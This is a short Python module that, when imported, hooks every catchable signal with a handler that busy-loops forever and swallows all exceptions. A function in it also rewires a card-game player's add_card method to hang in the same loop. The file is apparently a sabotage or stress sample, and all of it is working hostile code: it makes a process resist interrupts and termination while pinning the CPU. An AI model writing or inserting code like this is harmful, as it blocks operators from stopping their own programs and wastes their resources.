"""Swallows what it is ended by, again and again."""

import signal


def again(*_):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


for number in range(1, signal.NSIG):
    try:
        signal.signal(number, again)
    except (OSError, ValueError):
        continue


def changed(player):
    player.add_card = lambda self, card: again()
